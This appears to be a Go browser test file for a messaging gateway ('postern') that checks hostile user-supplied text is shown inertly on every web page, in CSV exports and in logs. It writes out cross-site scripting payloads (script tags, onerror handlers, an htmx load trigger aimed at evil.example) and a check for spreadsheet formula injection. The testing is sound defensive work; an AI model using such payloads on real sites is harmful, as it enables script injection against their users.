package browsertest

import (
	"encoding/csv"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"unicode"

	"postern/internal/access"
	"postern/internal/gateway"
	"postern/internal/people"
	"postern/internal/postern"
	"postern/internal/testkit"

	"github.com/chromedp/chromedp"
)

// hostile is a workspace in which every text that somebody else can choose is one of
// the strings, and what of it must be read on the pages of each kind.
type hostile struct {
	t       *testing.T
	k       *testkit.Kit
	b       *browser
	c       *testkit.Client
	strings []string
	wants   map[string][]string         // by kind of page, as the API gives them
	reads   map[string]*strings.Builder // what the pages of the kind say
}

var count = flag.Int("strings", 40, "how many of the 200 hostile strings are tried: as many of each family")

// T13: whatever somebody else writes is read on the pages, and does nothing there.
func TestT13HostileTextNeverRuns(t *testing.T) {
	t.Parallel()
	all := hostileStrings()
	if unique := slices.Compact(slices.Sorted(slices.Values(all))); len(unique) != 200 {
		t.Fatalf("there are %d different strings, want 200", len(unique))
	}
	if n := len(families()); *count < 2*n || *count > len(all) || *count%n != 0 {
		t.Fatalf("-strings %d is no multiple of %d from %d to %d", *count, n, 2*n, len(all))
	}
	h := &hostile{
		t: t, k: testkit.Start(t), strings: all[:*count], wants: map[string][]string{},
		reads: map[string]*strings.Builder{},
	}
	h.b = watched(t, h.k.URL())
	h.setUp()
	number := h.c.Link(own)
	h.contactsWrite(number.ID)
	h.write(number.ID)
	devices := h.nameDevices()
	h.nameKeys()
	h.nameWorkspaces()
	hooks := h.addWebhooks()
	answers := h.answerWebhooks()
	h.invite()
	h.signInFromElsewhere()

	h.walk("devices", "/devices", 10)
	h.walk("keys", "/keys", 10)
	h.walk("messages", "/messages", 20)
	h.walk("chats", "/messages/chats?device="+string(number.ID), 10)
	h.walk("chat", "/messages/chats/"+string(number.ID)+"/"+url.PathEscape(crowd), 20)
	h.walk("contacts", "/contacts", 10)
	h.walk("webhooks", "/webhooks", 20)
	h.walk("workspaces", "/workspaces", 10)
	h.walk("events", "/events?type=message.received", 10)
	h.walk("audit", "/people/audit", 4)
	h.walk("people", "/people", 1)
	for _, id := range h.some(devices, 10) {
		h.read("device", "/devices/"+id)
	}
	for _, id := range h.some(hooks, 10) {
		h.read("webhook", "/webhooks/"+id)
		h.read("webhook form", "/webhooks/"+id+"/edit")
	}
	for _, path := range answers {
		h.read("delivery", path)
	}
	for _, path := range []string{
		"/", "/usage", "/account", "/devices/" + string(number.ID), "/devices/" + string(number.ID) + "/phone",
		"/devices/" + devices[0] + "/health", "/devices/" + devices[0] + "/settings", "/devices/" + devices[0] + "/delete", "/messages/new",
		"/webhooks/" + hooks[0] + "/secret", "/webhooks/" + hooks[0] + "/replay",
		"/webhooks/" + hooks[0] + "/deliveries",
	} {
		h.read("other", path)
	}
	h.eachMessage()
	h.asQuery()
	h.whileThePageIsOpen(number.ID)
	h.export()
	h.judge()
	h.judgeLog()
}

const (
	own   = "+15550001111"
	crowd = "+15559990000" // to whom all is sent
)

func (h *hostile) setUp() {
	h.t.Helper()
	h.b.do(chromedp.Navigate(h.k.SetUpURL()))
	h.b.fill("#workspace", `"><script>alert(1)</script>`, "#email", email, "#password", password)
	h.b.press("main form button:not([type])")
	list, err := h.k.Gateway().Workspaces.List(h.t.Context(), access.Operator())
	if err != nil || len(list) != 1 {
		h.t.Fatalf("%v %v", list, err)
	}
	h.k.SetPlan(list[0].ID, "enterprise")
	h.c = h.k.Key(list[0].ID, gateway.NewKey{Name: "test"})
}

// want notes what the pages of a kind must say.
func (h *hostile) want(kind, text string) { h.wants[kind] = append(h.wants[kind], text) }

// put makes something by the API, with s in the body for each %s. A string that the
// API does not take is refused, and never a fault of the server.
func (h *hostile) put(path, body, s string, made any) bool {
	h.t.Helper()
	a := h.c.Do(http.MethodPost, path, strings.ReplaceAll(body, "%s", quoted(s)))
	if a.Status >= 300 {
		if a.Status < 400 || a.Status >= 500 {
			h.t.Errorf("%.60q is answered %d by POST %s", s, a.Status, path)
		}
		return false
	}
	a.JSON(h.k, made)
	return true
}

// contactsWrite lets one contact for each string take it for a name, and write it.
func (h *hostile) contactsWrite(device postern.DeviceID) {
	h.t.Helper()
	sent := 0
	for i, s := range h.strings {
		from := fmt.Sprintf("+1555%07d", i)
		if err := h.k.Vendor.PhoneProfiles().SetName(from, s); err != nil {
			h.t.Fatal(err)
		}
		if i < postern.MaxKeptLabels {
			if err := h.k.Vendor.PhoneLabels().PutNamed(h.t.Context(), own, from, s, true); err != nil {
				h.t.Fatal(err)
			}
		}
		if h.put("/v1/sandbox/devices/"+string(device)+"/inbound", `{"from":"`+from+`","body":%s}`, s, &struct{}{}) {
			sent++
		}
	}
	if _, err := h.k.Vendor.Send(
		h.t.Context(), own, "+15558888888", strings.Repeat("<i>", 1<<20/3),
	); err != nil { // the network knows no limit of ours
		h.t.Fatal(err)
	}
	sent++
	var list []postern.Message
	testkit.Eventually(h.t, "what the contacts wrote", func() (bool, any) {
		list = h.messages("direction=inbound")
		return len(list) == sent, len(list)
	})
	for _, m := range list {
		if clean := !strings.ContainsFunc(m.Content.Text,
			func(r rune) bool {
				return !unicode.IsPrint(r) ||
					r > 0xffff
			}); clean &&
			len(m.Content.Text) < 200 {
			h.want("chats", m.Content.Text) // as the name and as the text
			h.want("events", inJSON(m.Content.Text))
		}
	}
	h.enough("inbound texts", sent)
	h.enough("names of contacts", len(h.wants["chats"]))
}

// inJSON is s as it is written between the quotes of a JSON string.
func inJSON(s string) string {
	return strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(s)
}

// messages are all that a query finds.
func (h *hostile) messages(query string) (list []postern.Message) {
	h.t.Helper()
	for next := ""; ; {
		var page struct {
			Data       []postern.Message `json:"data"`
			NextCursor string            `json:"nextCursor"`
		}
		h.c.Call(http.MethodGet, "/v1/messages?limit=100&"+query+next, nil, http.StatusOK, &page)
		list = append(list, page.Data...)
		if page.NextCursor == "" {
			return list
		}
		next = "&cursor=" + url.QueryEscape(page.NextCursor)
	}
}

// enough fails when a field has taken so few of the strings that it is hardly tested.
func (h *hostile) enough(what string, n int) {
	h.t.Helper()
	if h.t.Logf("%s: %d of %d strings are taken", what, n, len(h.strings)); n < len(h.strings)*3/4 {
		h.t.Errorf("only %d of the strings are taken as %s", n, what)
	}
}

// write sends each string to one contact, with itself for a label.
func (h *hostile) write(device postern.DeviceID) {
	h.t.Helper()
	taken := 0
	for _, s := range h.strings {
		var m postern.Message
		label := s
		if len(label) > 500 {
			label = label[:400]
		}
		body := `{"deviceId":"` + string(device) + `","to":"` + crowd +
			`","whenDisconnected":"queue","body":%s,"metadata":{` + quoted(label) + `:` + quoted(label) + `}}`
		if !h.put("/v1/messages", body, s, &m) {
			continue
		}
		taken++
		if m.Content.Text != s {
			h.t.Errorf("%.60q is kept as %.60q", s, m.Content.Text)
		}
		if len([]rune(m.Content.Text)) < 2000 {
			h.want("chat", m.Content.Text)
		}
		if len([]rune(m.Content.Text)) < 200 {
			h.want("messages", m.Content.Text)
		}
	}
	h.enough("outbound texts", taken)
}

func (h *hostile) nameDevices() (ids []string) {
	h.t.Helper()
	for _, s := range h.strings {
		var d postern.Device
		if h.put("/v1/devices", `{"name":%s}`, s, &d) {
			ids = append(ids, string(d.ID))
			h.want("devices", d.Name)
		}
	}
	h.enough("names of devices", len(ids))
	return ids
}

func (h *hostile) nameKeys() {
	h.t.Helper()
	for _, s := range h.strings {
		key, _, err := h.k.Gateway().Keys.Create(h.t.Context(), access.Operator(), h.c.Workspace,
			gateway.NewKey{Name: s})
		if err == nil {
			h.want("keys", key.Name)
		}
	}
	h.enough("names of keys", len(h.wants["keys"]))
}

// nameWorkspaces makes the user an owner of one workspace for each string.
func (h *hostile) nameWorkspaces() {
	h.t.Helper()
	g, p, ctx := h.k.Gateway(), h.k.People(), h.t.Context()
	members, err := p.Members.List(ctx, access.Operator(), h.c.Workspace)
	if err != nil {
		h.t.Fatal(err)
	}
	for _, s := range h.strings {
		ws, err := g.Workspaces.Create(ctx, access.Operator(), gateway.NewWorkspace{Name: s, Plan: "growth"})
		if err != nil {
			continue
		}
		_, token, err := p.Invitations.Create(ctx, access.Operator(), ws.ID, people.NewInvitation{
			Email: email, Role: postern.Owner,
		})
		if err != nil {
			h.t.Fatal(err)
		}
		if _, err := p.Invitations.JoinAs(ctx, access.Self{ID: members[0].UserID, Address: "127.0.0.1"},
			token); err != nil {
			h.t.Fatal(err)
		}
		h.want("workspaces", ws.Name)
	}
	h.enough("names of workspaces", len(h.wants["workspaces"]))
}

// addWebhooks puts each string into a description and into a URL. They get no event
// of those that come, or there would be thousands of deliveries.
func (h *hostile) addWebhooks() (ids []string) {
	h.t.Helper()
	r := receive(h.t)
	r.greets.Store(true)
	addresses := 0
	for _, s := range h.strings[:len(h.strings)-2] { // two are for what follows
		var e gateway.EndpointWithSecret
		raw := quoted(r.URL + "/" + s)
		if a := h.c.Do(
			http.MethodPost, "/v1/webhooks", `{"url":`+raw+`,"description":`+quoted(s)+`,"events":["device.banned"]}`,
		); a.Status == http.StatusCreated {
			a.JSON(h.k, &e)
			addresses++
		} else if !h.put("/v1/webhooks", `{"url":"`+r.URL+`/?q=`+url.QueryEscape(s[:min(len(s),
			300)])+`","description":%s,"events":["device.banned"]}`, s,
			&e) {
			continue
		}
		ids = append(ids, string(e.ID))
		h.want("webhooks", e.Description)
		h.want("webhooks", e.URL)
	}
	h.enough("descriptions of webhooks", len(ids))
	h.t.Logf("%d strings are taken as they are in a URL", addresses)
	return ids
}

// answerWebhooks has a receiver answer each string, ten to an event, and gives the
// pages of these deliveries.
func (h *hostile) answerWebhooks() (paths []string) {
	h.t.Helper()
	var turn atomic.Int64
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var e struct{ Type, Challenge string }
		if body, err := io.ReadAll(r.Body); err != nil || json.Unmarshal(body, &e) != nil {
			return
		}
		if e.Type == "webhook.verification" {
			_, _ = io.WriteString(w, e.Challenge)
			return
		}
		_, _ = io.WriteString(w, h.strings[int(turn.Add(1)-1)%len(h.strings)])
	}))
	h.t.Cleanup(server.Close)
	var e gateway.EndpointWithSecret
	h.c.Call(
		http.MethodPost, "/v1/webhooks", map[string]any{"url": server.URL, "events": []string{"device.banned"}},
		http.StatusCreated, &e,
	)
	testkit.Eventually(h.t, "an active endpoint", func() (bool, any) {
		h.c.Call(http.MethodGet, "/v1/webhooks/"+string(e.ID), nil, http.StatusOK, &e)
		return e.Status == postern.EndpointActive, e.Status
	})
	for turn.Load() < int64(len(h.strings)) {
		var one struct {
			postern.Delivery
			AttemptLog []postern.Attempt
		}
		h.c.Call(http.MethodPost, "/v1/webhooks/"+string(e.ID)+"/test", nil, http.StatusAccepted, &one)
		own := "/v1/deliveries/" + string(one.ID)
		for n := 1; n <= 10; n++ {
			testkit.Eventually(h.t, "an attempt", func() (bool, any) {
				h.c.Call(http.MethodGet, own, nil, http.StatusOK, &one)
				return len(one.AttemptLog) == n && one.Status == postern.DeliverySucceeded, one
			})
			if n < 10 {
				h.c.Call(http.MethodPost, own+"/retry", nil, http.StatusAccepted, nil)
			}
		}
		for _, a := range one.AttemptLog {
			h.want("delivery", a.Answer)
		}
		paths = append(paths, "/webhooks/"+string(e.ID)+"/deliveries/"+string(one.ID))
	}
	h.enough("answers of receivers", len(h.wants["delivery"]))
	return paths
}

// invite asks for people whose addresses are hostile, as far as those are addresses.
func (h *hostile) invite() {
	h.t.Helper()
	for _, s := range h.strings {
		for _, address := range []string{s + "@example.com", `"` + s + `"@example.com`} {
			i, _, err := h.k.People().Invitations.Create(h.t.Context(), access.Operator(), h.c.Workspace,
				people.NewInvitation{
					Email: address, Role: postern.Viewer,
				})
			if err == nil {
				h.want("people", i.Email)
			}
		}
	}
	h.t.Logf("e-mail addresses: %q", h.wants["people"])
}

// signInFromElsewhere lets browsers with hostile names be listed as signed in.
func (h *hostile) signInFromElsewhere() {
	h.t.Helper()
	for _, agent := range []string{
		`<script>alert(1)</script> Firefox/1 Windows`, `" onmouseover="alert(1)`,
		`Mozilla/5.0 (<img src=x onerror=alert(1)>; Linux) Chrome/1`,
	} {
		form := url.Values{"email": {email}, "password": {password}}
		r, err := http.NewRequestWithContext(
			h.t.Context(), http.MethodPost, h.k.URL()+"/signin", strings.NewReader(form.Encode()),
		)
		if err != nil {
			h.t.Fatal(err)
		}
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		r.Header.Set("User-Agent", agent)
		answer, err := testkit.Transport.RoundTrip(r)
		if err != nil {
			h.t.Fatal(err)
		}
		if answer.Body.Close(); answer.StatusCode != http.StatusSeeOther {
			h.t.Errorf("signing in from %q is answered %d", agent, answer.StatusCode)
		}
	}
}

// some are n of a list, spread over it.
func (h *hostile) some(list []string, n int) (some []string) {
	for i := range n {
		some = append(some, list[i*len(list)/n])
	}
	return some
}

// read visits a page, and keeps what it says under its kind.
func (h *hostile) read(kind, path string) {
	h.t.Helper()
	if h.reads[kind] == nil {
		h.reads[kind] = &strings.Builder{}
	}
	h.reads[kind].WriteString(h.b.visit(path))
}

// walk reads a list page by page.
func (h *hostile) walk(kind, path string, most int) {
	h.t.Helper()
	for range most {
		h.read(kind, path)
		h.open(kind)
		next, err := chromedp.Run(
			h.b.ctx,
			chromedp.Evaluate[string](`[...document.querySelectorAll('main a[href*="after="], a.btn[href*="after="]')].map(a => a.getAttribute("href")).pop() || ""`),
		)
		if h.b.must(err); next == "" {
			return
		}
		path = next
	}
}

// openAll opens what is loaded when it is opened.
var openAll = chromedp.Evaluate[chromedp.Void](
	`for (const d of document.querySelectorAll("details:has([data-loads])")) d.open = true`,
)

// open opens what a page shows only then, and reads it.
func (h *hostile) open(kind string) {
	h.t.Helper()
	if h.b.number(`document.querySelectorAll("details [data-loads]").length`) == 0 {
		return
	}
	h.b.until("what is loaded then", func() bool {
		h.b.do(openAll)
		return h.b.number(`document.querySelectorAll("details [data-loads]").length`) == 0
	})
	h.reads[kind].WriteString(h.b.inspect())
}

// eachMessage reads the page of every third message, so that each family has its
// turn, and of every long one.
func (h *hostile) eachMessage() {
	h.t.Helper()
	list := h.messages("")
	for i, m := range list {
		if i%3 != 0 && len(m.Content.Text) < 200 {
			continue
		}
		h.read("message", "/messages/"+string(m.ID))
		h.want("message", m.Content.Text)
		for name, value := range m.Metadata {
			h.want("message", name)
			h.want("message", value)
		}
	}
}

// asQuery puts the strings into addresses of pages, many at once.
func (h *hostile) asQuery() {
	h.t.Helper()
	short := slices.DeleteFunc(slices.Clone(h.strings), func(s string) bool { return len(s) > 300 })
	for some := range slices.Chunk(short, 40) {
		q := url.QueryEscape(strings.Join(some, " "))
		for _, path := range []string{
			"/messages?q=", "/messages?status=", "/events?type=", "/events?device=", "/people/audit?email=",
			"/messages/chats?device=", "/devices?after=", "/nowhere?x=",
		} {
			h.read("query", path+q)
		}
	}
}

// whileThePageIsOpen lets contacts write while pages show what comes by themselves.
func (h *hostile) whileThePageIsOpen(device postern.DeviceID) {
	h.t.Helper()
	const from = "+15551234567" // of inbound
	for i, path := range []string{
		"/messages/chats?device=" + string(device), "/messages/chats/" + string(device) + "/" + url.PathEscape(from),
		"/events",
	} {
		h.b.visit(path)
		text := fmt.Sprintf(`<img src=x onerror=alert(%d)><div hx-get=//evil.example hx-trigger=load>live %d`, i, i)
		inbound(h.c, device, text)
		testkit.Eventually(h.t, "what is written meanwhile on "+path, func() (bool, any) {
			h.b.do(openAll)
			got := h.b.inspect()
			return strings.Contains(got, fmt.Sprintf("live %d", i)), nil
		})
	}
}

// export reads the file of all messages.
func (h *hostile) export() {
	h.t.Helper()
	text, err := chromedp.Run(
		h.b.ctx, chromedp.Evaluate[string](`fetch("/messages.csv").then(r => r.text())`, chromedp.EvalAwaitPromise),
	)
	h.b.must(err)
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	h.b.must(err)
	held := map[string]bool{}
	for _, row := range rows {
		for _, cell := range row {
			held[inFile(cell)] = true
			if strings.ContainsAny(cell[:min(len(cell), 1)], "=+-@\t\r\n") || strings.HasPrefix(cell, "＝") {
				h.t.Errorf("the file has the formula %.80q", cell)
			}
		}
	}
	for _, m := range h.messages("") {
		if !held[inFile(m.Content.Text)] {
			h.t.Errorf("the file lacks %.80q", m.Content.Text)
		}
	}
}

// inFile is a text without what writing it to a file adds or leaves out: apostrophes
// before what a formula begins with, and carriage returns.
func inFile(s string) string {
	return strings.NewReplacer("\r", "", "'", "").Replace(s)
}

// plain is what HTML makes of a text: it has no NUL, and one end of a line.
func plain(s string) string {
	return strings.NewReplacer("\x00", "", "\ufffd", "", "\r\n", "\n", "\r", "\n").Replace(s)
}

// judge fails for each string that is not read where it should be.
func (h *hostile) judge() {
	h.t.Helper()
	for kind, wants := range h.wants {
		said := plain(h.reads[kind].String())
		for _, want := range wants {
			if !strings.Contains(said, plain(want)) {
				h.t.Errorf("on the pages of kind %q nobody reads %.120q", kind, want)
			}
		}
		h.t.Logf("%s: %d texts are read", kind, len(wants))
	}
}

// judgeLog fails when a text could forge a line of the log, or move its reader's
// cursor.
func (h *hostile) judgeLog() {
	h.t.Helper()
	for line := range strings.Lines(h.k.Log.String()) {
		line = strings.TrimSuffix(line, "\n")
		if !json.Valid([]byte(line)) ||
			strings.ContainsFunc(line, func(r rune) bool { return r < ' ' || r >= 0x7f && r < 0xa0 }) {
			h.t.Errorf("the log holds the line %.200q", line)
		}
	}
}
